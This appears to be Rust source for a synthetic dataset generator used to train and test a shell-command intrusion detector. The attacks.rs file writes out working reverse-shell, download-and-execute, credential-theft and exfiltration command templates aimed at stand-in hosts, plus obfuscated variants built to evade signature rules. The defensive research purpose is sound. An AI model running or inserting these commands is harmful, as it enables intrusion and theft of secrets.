    pub fn train_out_of_box_prob(mut self, p: f64) -> Self {
        self.session.out_of_box_prob = p.clamp(0.0, 1.0);
        self
    }

    /// Probability an injected *test* attack is out-of-box.
    pub fn test_out_of_box_prob(mut self, p: f64) -> Self {
        self.test_out_of_box_prob = p.clamp(0.0, 1.0);
        self
    }

    /// Typo probability per benign line.
    pub fn typo_prob(mut self, p: f64) -> Self {
        self.session.typo_prob = p.clamp(0.0, 1.0);
        self
    }

    /// Invalid-junk probability per line.
    pub fn invalid_prob(mut self, p: f64) -> Self {
        self.session.invalid_prob = p.clamp(0.0, 1.0);
        self
    }

    /// Generates the dataset.
    pub fn build<R: Rng + ?Sized>(&self, rng: &mut R) -> Dataset {
        // Train window: synthetic week starting at t=0.
        let train = self.generate_split(rng, self.train_size, 0, self.session.clone());
        // Test window: four synthetic weeks later, possibly different
        // out-of-box mix (new attacks appear over time).
        let mut test_cfg = self.session.clone();
        test_cfg.out_of_box_prob = self.test_out_of_box_prob;
        let test = self.generate_split(rng, self.test_size, 2_419_200, test_cfg);
        Dataset { train, test }
    }

    fn generate_split<R: Rng + ?Sized>(
        &self,
        rng: &mut R,
        size: usize,
        epoch: u64,
        config: SessionConfig,
    ) -> Vec<LogRecord> {
        let generator = SessionGenerator::new(config);
        let mut records: Vec<LogRecord> = Vec::with_capacity(size + 32);
        while records.len() < size {
            let user = rng.gen_range(0..self.n_users);
            let start = epoch + rng.gen_range(0..600_000u64);
            records.extend(generator.generate_session(rng, user, start));
        }
        records.truncate(size);

        // Inject duplicate skew: overwrite a fraction of *benign* records
        // with copies of other benign records (common lines repeat).
        let dup_count = (size as f64 * self.duplication) as usize;
        for _ in 0..dup_count {
            let src = rng.gen_range(0..records.len());
            let dst = rng.gen_range(0..records.len());
            if records[src].truth == GroundTruth::Benign
                && records[dst].truth == GroundTruth::Benign
            {
                let line = records[src].line.clone();
                records[dst].line = line;
            }
        }
        // Keep temporal order per the log semantics.
        records.sort_by_key(|r| (r.timestamp, r.user));
        records.shuffle(rng);
        records.sort_by_key(|r| r.timestamp);
        records
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn small() -> Dataset {
        let mut rng = StdRng::seed_from_u64(11);
        DatasetBuilder::new()
            .train_size(2_000)
            .test_size(800)
            .attack_prob(0.08)
            .build(&mut rng)
    }

    #[test]
    fn sizes_are_exact() {
        let d = small();
        assert_eq!(d.train.len(), 2_000);
        assert_eq!(d.test.len(), 800);
    }

    #[test]
    fn both_splits_contain_attacks() {
        let d = small();
        assert!(d.train.iter().any(|r| r.truth.is_malicious()));
        assert!(d.test.iter().any(|r| r.truth.is_malicious()));
    }

    #[test]
    fn test_contains_in_box_and_out_of_box() {
        let d = small();
        assert!(d.count_test(|t| t.is_in_box()) > 0);
        assert!(d.count_test(|t| t.is_out_of_box()) > 0);
    }

    #[test]
    fn attacks_are_rare() {
        let d = small();
        let frac = d.train.iter().filter(|r| r.truth.is_malicious()).count() as f64 / 2_000.0;
        assert!(frac < 0.1, "attack fraction {frac} too high");
    }

    #[test]
    fn duplicates_exist() {
        let d = small();
        let mut lines: Vec<&str> = d.train.iter().map(|r| r.line.as_str()).collect();
        let total = lines.len();
        lines.sort();
        lines.dedup();
        assert!(lines.len() < total, "expected duplicate lines");
    }

    #[test]
    fn timestamps_sorted() {
        let d = small();
        for w in d.train.windows(2) {
            assert!(w[0].timestamp <= w[1].timestamp);
        }
    }

    #[test]
    fn deterministic_under_seed() {
        let a = {
            let mut rng = StdRng::seed_from_u64(5);
            DatasetBuilder::new()
                .train_size(300)
                .test_size(100)
                .build(&mut rng)
        };
        let b = {
            let mut rng = StdRng::seed_from_u64(5);
            DatasetBuilder::new()
                .train_size(300)
                .test_size(100)
                .build(&mut rng)
        };
        assert_eq!(a.train, b.train);
        assert_eq!(a.test, b.test);
    }

    #[test]
    fn ground_truth_predicates() {
        let m = GroundTruth::Malicious {
            family: AttackFamily::PortScan,
            variant: Variant::OutOfBox,
        };
        assert!(m.is_malicious() && m.is_out_of_box() && !m.is_in_box());
        assert!(!GroundTruth::Benign.is_malicious());
        assert!(!GroundTruth::Invalid.is_out_of_box());
    }
}
