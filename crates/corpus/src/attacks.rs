//! Attack-sample synthesis mirroring the paper's Table III.
//!
//! Each family has **in-box** variants — the exact signatures a
//! commercial rule-based IDS catches — and **out-of-box** variants that
//! are functionally equivalent but evade brittle signatures by switching
//! flags (`nc -lvnp` → `nc -ulp`), interpreters (`java` → `python3`),
//! argument schemes (`http://` → `socks5://`) or by wrapping the tool in
//! a script (`masscan …` → `sh /root/masscan.sh …`). This reproduces the
//! in-box/out-of-box evaluation structure of Section V.

use rand::seq::SliceRandom;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::fmt;

/// The attack families used across the evaluation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttackFamily {
    /// Bind/reverse shells (`nc -lvnp`, `bash -i >& /dev/tcp/...`).
    ReverseShell,
    /// Port scanning (`masscan`, `nmap`).
    PortScan,
    /// Base64-decode-and-execute chains.
    Base64Exec,
    /// Proxy environment hijacking (`export https_proxy=...`).
    ProxyHijack,
    /// Download-and-execute droppers (`curl ... | bash`).
    DownloadExec,
    /// Credential/secret exfiltration (`cat /etc/shadow`, …).
    CredentialTheft,
    /// Known-bad commands hidden behind quote splicing or parameter
    /// expansion (`n'c' -l'v'np`, `${x:-n}c -lvnp`).
    QuotingObfuscation,
    /// Decode-and-execute chains where the decoder is pushed inside a
    /// command substitution (`eval $(echo … | base64 -d)`).
    ObfuscatedDecode,
    /// Living-off-the-land abuse of benign tooling (`find -exec`,
    /// `awk system()`, `tar --checkpoint-action`).
    LivingOffTheLand,
    /// Multi-command archive-and-upload exfiltration chains.
    ExfilChain,
}

impl AttackFamily {
    /// All families.
    pub const ALL: [AttackFamily; 10] = [
        AttackFamily::ReverseShell,
        AttackFamily::PortScan,
        AttackFamily::Base64Exec,
        AttackFamily::ProxyHijack,
        AttackFamily::DownloadExec,
        AttackFamily::CredentialTheft,
        AttackFamily::QuotingObfuscation,
        AttackFamily::ObfuscatedDecode,
        AttackFamily::LivingOffTheLand,
        AttackFamily::ExfilChain,
    ];

    /// The obfuscated families added with the full-grammar parser; their
    /// out-of-box variants specifically exercise quoting, expansion and
    /// substitution tricks that flat token signatures cannot see.
    pub const OBFUSCATED: [AttackFamily; 4] = [
        AttackFamily::QuotingObfuscation,
        AttackFamily::ObfuscatedDecode,
        AttackFamily::LivingOffTheLand,
        AttackFamily::ExfilChain,
    ];
}

impl fmt::Display for AttackFamily {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            AttackFamily::ReverseShell => "reverse-shell",
            AttackFamily::PortScan => "port-scan",
            AttackFamily::Base64Exec => "base64-exec",
            AttackFamily::ProxyHijack => "proxy-hijack",
            AttackFamily::DownloadExec => "download-exec",
            AttackFamily::CredentialTheft => "credential-theft",
            AttackFamily::QuotingObfuscation => "quoting-obfuscation",
            AttackFamily::ObfuscatedDecode => "obfuscated-decode",
            AttackFamily::LivingOffTheLand => "living-off-the-land",
            AttackFamily::ExfilChain => "exfil-chain",
        };
        f.write_str(s)
    }
}

/// Whether a sample matches the commercial IDS's signatures.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Variant {
    /// Caught by the supervision source's rules.
    InBox,
    /// Functionally equivalent but evades the rules.
    OutOfBox,
}

/// One generated attack: one or more temporally adjacent command lines.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackSample {
    /// The command lines, in execution order (usually one; droppers two).
    pub lines: Vec<String>,
    /// Attack family.
    pub family: AttackFamily,
    /// In-box or out-of-box with respect to the rule IDS.
    pub variant: Variant,
}

/// Synthesizes attack samples with randomized targets and payloads.
#[derive(Debug, Clone, Default)]
pub struct AttackGenerator;

fn ip<R: Rng + ?Sized>(rng: &mut R) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.gen_range(1..224),
        rng.gen_range(0..256),
        rng.gen_range(0..256),
        rng.gen_range(1..255)
    )
}

fn port<R: Rng + ?Sized>(rng: &mut R) -> u16 {
    *[4242, 9001, 1337, 8443, 4444, 5555, 31337, 2222]
        .choose(rng)
        .expect("non-empty")
}

fn b64ish<R: Rng + ?Sized>(rng: &mut R) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let len = rng.gen_range(16..40) & !3;
    let mut s: String = (0..len)
        .map(|_| *ALPHABET.choose(rng).expect("non-empty") as char)
        .collect();
    s.push('=');
    s
}

fn evil_host<R: Rng + ?Sized>(rng: &mut R) -> String {
    [
        "185.220.10.5",
        "evil.example.net",
        "update-cdn.xyz",
        "91.134.8.77",
        "files.dropzone.cc",
    ]
    .choose(rng)
    .expect("non-empty")
    .to_string()
}

impl AttackGenerator {
    /// Creates a generator.
    pub fn new() -> Self {
        AttackGenerator
    }

    /// Generates one sample of the given family and variant.
    pub fn generate<R: Rng + ?Sized>(
        &self,
        rng: &mut R,
        family: AttackFamily,
        variant: Variant,
    ) -> AttackSample {
        let lines = match (family, variant) {
            (AttackFamily::ReverseShell, Variant::InBox) => match rng.gen_range(0..3) {
                0 => vec![format!("nc -lvnp {}", port(rng))],
                1 => vec![format!("bash -i >& /dev/tcp/{}/{} 0>&1", ip(rng), port(rng))],
                _ => vec![format!(
                    "nc -e /bin/sh {} {}",
                    ip(rng),
                    port(rng)
                )],
            },
            (AttackFamily::ReverseShell, Variant::OutOfBox) => match rng.gen_range(0..3) {
                // Table III: `nc -ulp *` is functionally close to
                // `nc -lvnp *` yet missed by the signature.
                0 => vec![format!("nc -ulp {}", port(rng))],
                1 => vec![format!(
                    "socat TCP:{}:{} EXEC:/bin/sh",
                    ip(rng),
                    port(rng)
                )],
                _ => vec![format!(
                    "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"{}\",{}));pty.spawn(\"/bin/sh\")'",
                    ip(rng),
                    port(rng)
                )],
            },
            (AttackFamily::PortScan, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec![format!(
                    "masscan {} -p 0-65535 --rate=1000 >> tmp.txt",
                    ip(rng)
                )],
                _ => vec![format!("nmap -sS -p- {}", ip(rng))],
            },
            (AttackFamily::PortScan, Variant::OutOfBox) => match rng.gen_range(0..2) {
                // Table III: the scan wrapped in a shell script.
                0 => vec![format!("sh /root/masscan.sh {} -p 0-65535", ip(rng))],
                _ => vec![format!(
                    "bash scan_all.sh {} 1-65535",
                    ip(rng)
                )],
            },
            (AttackFamily::Base64Exec, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec![format!("echo {} | base64 -d | bash -i", b64ish(rng))],
                _ => vec![format!(
                    "java -jar tmp.jar -C \"bash -c {{echo,{}}} {{base64,-d}} {{bash,-i}}\"",
                    b64ish(rng)
                )],
            },
            (AttackFamily::Base64Exec, Variant::OutOfBox) => match rng.gen_range(0..2) {
                // Table III: same chain camouflaged under python3.
                0 => vec![format!(
                    "python3 tmp.py -p \"bash -c {{echo,{}}} {{base64,-d}} {{bash,-i}}\"",
                    b64ish(rng)
                )],
                _ => vec![format!("printf {} | openssl base64 -d | sh", b64ish(rng))],
            },
            (AttackFamily::ProxyHijack, Variant::InBox) => vec![format!(
                "export https_proxy=\"http://{}:{}\"",
                ip(rng),
                port(rng)
            )],
            (AttackFamily::ProxyHijack, Variant::OutOfBox) => vec![format!(
                // Table III: scheme switch evades the `http://` signature.
                "export https_proxy=\"socks5://{}:{}\"",
                ip(rng),
                port(rng)
            )],
            (AttackFamily::DownloadExec, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec![format!("curl http://{}/x.sh | bash", evil_host(rng))],
                _ => vec![format!("wget -q http://{}/x.sh -O- | sh", evil_host(rng))],
            },
            (AttackFamily::DownloadExec, Variant::OutOfBox) => match rng.gen_range(0..2) {
                // Section IV-C's motivating pair: download renamed to
                // `python`, then execute — two innocuous-looking lines.
                0 => vec![
                    format!("wget -c http://{}/payload -o python", evil_host(rng)),
                    "python".to_string(),
                ],
                _ => vec![format!(
                    "curl -fsSL https://{}/loader | python3 -",
                    evil_host(rng)
                )],
            },
            (AttackFamily::CredentialTheft, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec!["cat /etc/shadow".to_string()],
                _ => vec!["cat /root/.ssh/id_rsa".to_string()],
            },
            (AttackFamily::CredentialTheft, Variant::OutOfBox) => match rng.gen_range(0..2) {
                0 => vec![format!(
                    "tar czf /tmp/.cache.tgz /etc/shadow /root/.ssh && curl -T /tmp/.cache.tgz ftp://{}/up/",
                    evil_host(rng)
                )],
                _ => vec!["history | grep -i passw".to_string()],
            },
            // In-box: quote splicing splits the signature token across
            // quoted segments, but the parser resolves quotes before the
            // rules run, so the signatures still fire.
            (AttackFamily::QuotingObfuscation, Variant::InBox) => match rng.gen_range(0..3) {
                0 => vec![format!("n'c' -lvnp {}", port(rng))],
                1 => vec![format!(
                    "b\"a\"sh -i >& \"/dev/tcp/{}/{}\" 0>&1",
                    ip(rng),
                    port(rng)
                )],
                _ => vec!["ca''t /etc/shadow".to_string()],
            },
            // Out-of-box: parameter expansion keeps the signature token
            // out of the *resolved* text too — `${x:-n}c` only becomes
            // `nc` at execution time, which the parser cannot see.
            (AttackFamily::QuotingObfuscation, Variant::OutOfBox) => match rng.gen_range(0..3) {
                0 => vec![format!("${{x:-n}}c -lvnp {}", port(rng))],
                1 => vec![format!(
                    "bash -i >& /dev/${{t:-tcp}}/{}/{} 0>&1",
                    ip(rng),
                    port(rng)
                )],
                _ => vec!["${c:-cat} /etc/shadow".to_string()],
            },
            // In-box: the decode pipeline is visible at the top level, so
            // the base64|shell pipeline signature fires.
            (AttackFamily::ObfuscatedDecode, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec![format!("printf {} | base64 -d | bash", b64ish(rng))],
                _ => vec![format!("echo {} | base64 -d | bash -s", b64ish(rng))],
            },
            // Out-of-box: the same pipeline moved inside a command
            // substitution — top-level base names are just `eval`/`bash`,
            // so the pipeline-sequence signature never sees `base64`.
            (AttackFamily::ObfuscatedDecode, Variant::OutOfBox) => match rng.gen_range(0..2) {
                0 => vec![format!("eval $(echo {} | base64 -d)", b64ish(rng))],
                _ => vec![format!("bash -c \"$(echo {} | base64 -d)\"", b64ish(rng))],
            },
            // In-box: canonical GTFOBins-style abuse of benign tooling.
            (AttackFamily::LivingOffTheLand, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec!["find / -name id_rsa -exec cat {} \\;".to_string()],
                _ => vec!["awk 'BEGIN{system(\"/bin/sh\")}'".to_string()],
            },
            // Out-of-box: glob the filename, switch the interpreter, or
            // use a tar escape no signature covers.
            (AttackFamily::LivingOffTheLand, Variant::OutOfBox) => match rng.gen_range(0..3) {
                0 => vec!["find / -name 'id_?sa' -exec cat {} \\;".to_string()],
                1 => vec!["gawk 'BEGIN{system(\"/bin/sh\")}'".to_string()],
                _ => vec![
                    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"
                        .to_string(),
                ],
            },
            // In-box: streaming archive piped straight into an upload.
            (AttackFamily::ExfilChain, Variant::InBox) => match rng.gen_range(0..2) {
                0 => vec![format!(
                    "tar czf - /etc/passwd | curl -T - ftp://{}/up/",
                    evil_host(rng)
                )],
                _ => vec![format!(
                    "tar czf - /root/.ssh | curl -T - ftp://{}/drop/",
                    evil_host(rng)
                )],
            },
            // Out-of-box: stage to a file first — either as one `&&`
            // one-liner or as two temporally adjacent lines — so the
            // streaming-pipe signature never matches.
            (AttackFamily::ExfilChain, Variant::OutOfBox) => match rng.gen_range(0..2) {
                0 => vec![format!(
                    "cd /tmp && tar czf .x.tgz /etc/passwd && curl -s -T .x.tgz https://{}/drop && rm .x.tgz",
                    evil_host(rng)
                )],
                _ => vec![
                    "tar czf /tmp/.x.tgz /etc/passwd /root/.ssh".to_string(),
                    format!("curl -s -T /tmp/.x.tgz https://{}/drop", evil_host(rng)),
                ],
            },
        };
        AttackSample {
            lines,
            family,
            variant,
        }
    }

    /// Generates a random family; `p_out_of_box` controls the variant mix.
    pub fn generate_random<R: Rng + ?Sized>(&self, rng: &mut R, p_out_of_box: f64) -> AttackSample {
        let family = *AttackFamily::ALL.choose(rng).expect("non-empty");
        let variant = if rng.gen_bool(p_out_of_box.clamp(0.0, 1.0)) {
            Variant::OutOfBox
        } else {
            Variant::InBox
        };
        self.generate(rng, family, variant)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn all_samples_parse() {
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(1);
        for family in AttackFamily::ALL {
            for variant in [Variant::InBox, Variant::OutOfBox] {
                for _ in 0..30 {
                    let s = g.generate(&mut rng, family, variant);
                    assert!(!s.lines.is_empty());
                    for line in &s.lines {
                        assert!(
                            shell_parser::classify(line).is_valid(),
                            "attack must parse ({family}/{variant:?}): {line}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn samples_are_randomized() {
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(2);
        let a = g.generate(&mut rng, AttackFamily::PortScan, Variant::InBox);
        let mut distinct = false;
        for _ in 0..20 {
            let b = g.generate(&mut rng, AttackFamily::PortScan, Variant::InBox);
            if b.lines != a.lines {
                distinct = true;
                break;
            }
        }
        assert!(distinct, "targets should randomize");
    }

    #[test]
    fn dropper_is_multi_line() {
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(3);
        let mut saw_multi = false;
        for _ in 0..50 {
            let s = g.generate(&mut rng, AttackFamily::DownloadExec, Variant::OutOfBox);
            if s.lines.len() == 2 {
                assert_eq!(s.lines[1], "python");
                saw_multi = true;
            }
        }
        assert!(saw_multi, "the wget→python dropper should occur");
    }

    #[test]
    fn random_mix_respects_probability() {
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(4);
        let out = (0..2_000)
            .filter(|_| g.generate_random(&mut rng, 0.3).variant == Variant::OutOfBox)
            .count();
        assert!((450..750).contains(&out), "out-of-box count {out}");
    }

    #[test]
    fn family_display_is_kebab() {
        assert_eq!(AttackFamily::ReverseShell.to_string(), "reverse-shell");
        assert_eq!(AttackFamily::Base64Exec.to_string(), "base64-exec");
        assert_eq!(
            AttackFamily::QuotingObfuscation.to_string(),
            "quoting-obfuscation"
        );
        assert_eq!(
            AttackFamily::LivingOffTheLand.to_string(),
            "living-off-the-land"
        );
    }

    #[test]
    fn obfuscated_families_are_a_subset_of_all() {
        for f in AttackFamily::OBFUSCATED {
            assert!(AttackFamily::ALL.contains(&f));
        }
        assert_eq!(AttackFamily::ALL.len(), 10);
    }

    #[test]
    fn quoting_obfuscation_resolves_to_signature_text() {
        // The spliced in-box variants must still *resolve* to the known
        // tool names once quotes are removed — that is what keeps them
        // in-box for a parser-backed rule engine.
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(21);
        for _ in 0..40 {
            let s = g.generate(&mut rng, AttackFamily::QuotingObfuscation, Variant::InBox);
            let line = &s.lines[0];
            let script = shell_parser::parse(line).expect("in-box obfuscation parses");
            let resolved = script.simple_commands()[0].words[0].text.clone();
            assert!(
                ["nc", "bash", "cat"].contains(&resolved.as_str()),
                "unexpected resolved name {resolved:?} for {line}"
            );
            // ...while the raw line never contains the plain name as a word.
            assert_ne!(line.split_whitespace().next(), Some(resolved.as_str()));
        }
    }

    #[test]
    fn expansion_obfuscation_keeps_signature_out_of_resolved_text() {
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(22);
        for _ in 0..40 {
            let s = g.generate(
                &mut rng,
                AttackFamily::QuotingObfuscation,
                Variant::OutOfBox,
            );
            let line = &s.lines[0];
            let script = shell_parser::parse(line).expect("out-of-box obfuscation parses");
            // Unlike quote splicing, `${…}` stays literal in the resolved
            // text of whatever word (or redirect target) carries it.
            let keeps_expansion = script.simple_commands().iter().any(|c| {
                c.words.iter().any(|w| w.text.contains("${"))
                    || c.redirects.iter().any(|r| r.target.text.contains("${"))
            });
            assert!(
                keeps_expansion,
                "expansion should survive into resolved text: {line}"
            );
        }
    }

    #[test]
    fn staged_exfil_can_span_two_lines() {
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(23);
        let mut saw_multi = false;
        for _ in 0..50 {
            let s = g.generate(&mut rng, AttackFamily::ExfilChain, Variant::OutOfBox);
            if s.lines.len() == 2 {
                assert!(s.lines[0].starts_with("tar "));
                assert!(s.lines[1].starts_with("curl "));
                saw_multi = true;
            }
        }
        assert!(saw_multi, "the staged two-line exfil should occur");
    }
}
