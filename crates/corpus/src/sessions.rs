//! Per-user temporal session synthesis.
//!
//! The multi-line method (paper Section IV-C) classifies a command line
//! together with "several command lines in the most recent past from the
//! same user … if their execution time is not too long ago". That only
//! works if the corpus has users, timestamps and coherent short
//! workflows; this module provides them.

use crate::attacks::{AttackGenerator, AttackSample};
use crate::benign::BenignGenerator;
use crate::dataset::{GroundTruth, LogRecord};
use crate::typos;
use rand::seq::SliceRandom;
use rand::Rng;

/// Tunables for session synthesis.
#[derive(Debug, Clone)]
pub struct SessionConfig {
    /// Mean number of commands per session.
    pub mean_len: usize,
    /// Probability a session contains one attack subsequence.
    pub attack_prob: f64,
    /// Probability an injected attack is out-of-box.
    pub out_of_box_prob: f64,
    /// Probability a benign line gets a command-name typo.
    pub typo_prob: f64,
    /// Probability of emitting a syntactically invalid junk line.
    pub invalid_prob: f64,
    /// Seconds between consecutive commands (upper bound; lower is 1).
    pub max_gap_secs: u64,
}

impl Default for SessionConfig {
    fn default() -> Self {
        SessionConfig {
            mean_len: 12,
            attack_prob: 0.02,
            out_of_box_prob: 0.35,
            typo_prob: 0.01,
            invalid_prob: 0.005,
            max_gap_secs: 120,
        }
    }
}

/// Generates user sessions: coherent benign workflows with occasional
/// attack subsequences, typos and invalid lines.
#[derive(Debug, Clone)]
pub struct SessionGenerator {
    benign: BenignGenerator,
    attacks: AttackGenerator,
    config: SessionConfig,
}

impl SessionGenerator {
    /// Creates a generator with the given configuration.
    pub fn new(config: SessionConfig) -> Self {
        SessionGenerator {
            benign: BenignGenerator::new(),
            attacks: AttackGenerator::new(),
            config,
        }
    }

    /// The active configuration.
    pub fn config(&self) -> &SessionConfig {
        &self.config
    }

    /// Generates one session for `user`, starting at `start_time`.
    pub fn generate_session<R: Rng + ?Sized>(
        &self,
        rng: &mut R,
        user: u32,
        start_time: u64,
    ) -> Vec<LogRecord> {
        let len = self.session_len(rng);
        let mut records = Vec::with_capacity(len + 2);
        let mut t = start_time;

        // Decide where (if anywhere) the attack subsequence lands.
        let attack_at = if rng.gen_bool(self.config.attack_prob) {
            Some(rng.gen_range(0..len.max(1)))
        } else {
            None
        };

        let mut workflow = WorkflowState::default();
        for i in 0..len {
            t += rng.gen_range(1..=self.config.max_gap_secs);
            if attack_at == Some(i) {
                let sample = self.random_attack(rng);
                push_attack(
                    &mut records,
                    user,
                    &mut t,
                    &sample,
                    self.config.max_gap_secs,
                    rng,
                );
                continue;
            }
            if rng.gen_bool(self.config.invalid_prob) {
                records.push(LogRecord {
                    user,
                    timestamp: t,
                    line: typos::invalid_line(rng),
                    truth: GroundTruth::Invalid,
                });
                continue;
            }
            let line = workflow.next_line(rng, &self.benign);
            if rng.gen_bool(self.config.typo_prob) {
                if let Some(typo) = typos::corrupt_command_name(rng, &line) {
                    records.push(LogRecord {
                        user,
                        timestamp: t,
                        line: typo,
                        truth: GroundTruth::BenignTypo,
                    });
                    continue;
                }
            }
            records.push(LogRecord {
                user,
                timestamp: t,
                line,
                truth: GroundTruth::Benign,
            });
        }
        records
    }

    fn session_len<R: Rng + ?Sized>(&self, rng: &mut R) -> usize {
        let m = self.config.mean_len.max(2);
        rng.gen_range(m / 2..=m + m / 2)
    }

    fn random_attack<R: Rng + ?Sized>(&self, rng: &mut R) -> AttackSample {
        self.attacks
            .generate_random(rng, self.config.out_of_box_prob)
    }
}

fn push_attack<R: Rng + ?Sized>(
    records: &mut Vec<LogRecord>,
    user: u32,
    t: &mut u64,
    sample: &AttackSample,
    max_gap: u64,
    rng: &mut R,
) {
    for line in &sample.lines {
        *t += rng.gen_range(1..=max_gap.min(30));
        records.push(LogRecord {
            user,
            timestamp: *t,
            line: line.clone(),
            truth: GroundTruth::Malicious {
                family: sample.family,
                variant: sample.variant,
            },
        });
    }
}

/// Small state machine that makes consecutive benign lines cohere
/// (`cd` into a directory, then operate there).
#[derive(Debug, Default)]
struct WorkflowState {
    cwd: Option<String>,
}

impl WorkflowState {
    fn next_line<R: Rng + ?Sized>(&mut self, rng: &mut R, benign: &BenignGenerator) -> String {
        // One third of the time continue a `cd`-rooted micro-workflow.
        if let Some(dir) = &self.cwd {
            if rng.gen_bool(0.5) {
                let follow = [
                    "ls -la".to_string(),
                    "ll".to_string(),
                    format!("grep -rn error {dir}"),
                    "git status".to_string(),
                    "vim config.yaml".to_string(),
                    "cat README.md".to_string(),
                ];
                let line = follow.choose(rng).expect("non-empty").clone();
                if rng.gen_bool(0.4) {
                    self.cwd = None;
                }
                return line;
            }
        }
        let line = benign.generate(rng);
        if let Some(target) = line.strip_prefix("cd ") {
            self.cwd = Some(target.to_string());
        }
        line
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn timestamps_increase_monotonically() {
        let g = SessionGenerator::new(SessionConfig::default());
        let mut rng = StdRng::seed_from_u64(1);
        let session = g.generate_session(&mut rng, 7, 1_000_000);
        for w in session.windows(2) {
            assert!(w[1].timestamp > w[0].timestamp);
        }
        assert!(session.iter().all(|r| r.user == 7));
    }

    #[test]
    fn attack_lines_are_contiguous() {
        let config = SessionConfig {
            attack_prob: 1.0,
            out_of_box_prob: 1.0,
            ..SessionConfig::default()
        };
        let g = SessionGenerator::new(config);
        let mut rng = StdRng::seed_from_u64(2);
        // Find a session with a 2-line attack and check adjacency.
        for _ in 0..200 {
            let session = g.generate_session(&mut rng, 1, 0);
            let malicious: Vec<usize> = session
                .iter()
                .enumerate()
                .filter(|(_, r)| r.truth.is_malicious())
                .map(|(i, _)| i)
                .collect();
            if malicious.len() == 2 {
                assert_eq!(malicious[1], malicious[0] + 1, "attack must be contiguous");
                return;
            }
        }
        panic!("no two-line attack generated in 200 sessions");
    }

    #[test]
    fn attack_probability_zero_gives_clean_sessions() {
        let config = SessionConfig {
            attack_prob: 0.0,
            invalid_prob: 0.0,
            typo_prob: 0.0,
            ..SessionConfig::default()
        };
        let g = SessionGenerator::new(config);
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..50 {
            let session = g.generate_session(&mut rng, 2, 0);
            assert!(session.iter().all(|r| r.truth == GroundTruth::Benign));
        }
    }

    #[test]
    fn sessions_have_plausible_length() {
        let config = SessionConfig {
            mean_len: 10,
            ..SessionConfig::default()
        };
        let g = SessionGenerator::new(config);
        let mut rng = StdRng::seed_from_u64(4);
        for _ in 0..50 {
            let session = g.generate_session(&mut rng, 3, 0);
            assert!((5..=16).contains(&session.len()), "len {}", session.len());
        }
    }

    #[test]
    fn workflow_follows_cd() {
        // With coherent workflows, `ls -la` or `ll` should frequently
        // directly follow a `cd`.
        let config = SessionConfig {
            attack_prob: 0.0,
            invalid_prob: 0.0,
            typo_prob: 0.0,
            mean_len: 30,
            ..SessionConfig::default()
        };
        let g = SessionGenerator::new(config);
        let mut rng = StdRng::seed_from_u64(5);
        let mut follows = 0;
        for _ in 0..100 {
            let s = g.generate_session(&mut rng, 1, 0);
            for w in s.windows(2) {
                if w[0].line.starts_with("cd ")
                    && (w[1].line.starts_with("ls") || w[1].line == "ll")
                {
                    follows += 1;
                }
            }
        }
        assert!(follows > 20, "only {follows} cd→ls follow-ups");
    }
}
