//! Benign command-line synthesis following the paper's Figure 2 mix.
//!
//! Commands are drawn Zipf-style with the most frequent commands of the
//! paper's occurrence table at the head (`cd`, `echo`, `chmod`, `grep`,
//! `ls`, `awk`, `ll`, `df`, `ps`, `cat`, `rm`, `docker`, …). Each command
//! has a small generator producing realistic flags and arguments, plus
//! occasional pipelines combining them.

use crate::zipf::ZipfSampler;
use rand::seq::SliceRandom;
use rand::Rng;

const DIRS: &[&str] = &[
    "/tmp",
    "/var/log",
    "/home/admin",
    "/opt/app",
    "/data",
    "/srv/www",
    "/etc",
    "/usr/local/bin",
    "/home/dev/project",
    "/var/lib/docker",
    "/mnt/backup",
    "/root",
];

const FILES: &[&str] = &[
    "main.py",
    "app.log",
    "config.yaml",
    "install.sh",
    "data.csv",
    "notes.txt",
    "server.js",
    "run.sh",
    "Makefile",
    "requirements.txt",
    "index.html",
    "backup.tar.gz",
    "model.bin",
    "access.log",
    "error.log",
    "db.sqlite",
    ".bashrc",
    "deploy.sh",
    "test.py",
    "report.json",
];

const HOSTS: &[&str] = &[
    "mirror.example.com",
    "repo.internal",
    "cdn.pkgs.net",
    "files.corp.local",
    "10.2.0.15",
    "192.168.1.40",
    "build.ci.local",
    "artifacts.example.org",
];

const CONTAINERS: &[&str] = &[
    "web-1",
    "db-primary",
    "cache",
    "worker-3",
    "nginx",
    "app-backend",
];

const PACKAGES: &[&str] = &[
    "numpy", "requests", "flask", "pandas", "torch", "boto3", "redis",
];

const SERVICES: &[&str] = &["nginx", "docker", "sshd", "redis", "postgresql", "crond"];

const PATTERNS: &[&str] = &[
    "error", "WARN", "timeout", "refused", "root", "failed", "OOM",
];

fn pick<'a, R: Rng + ?Sized>(rng: &mut R, pool: &[&'a str]) -> &'a str {
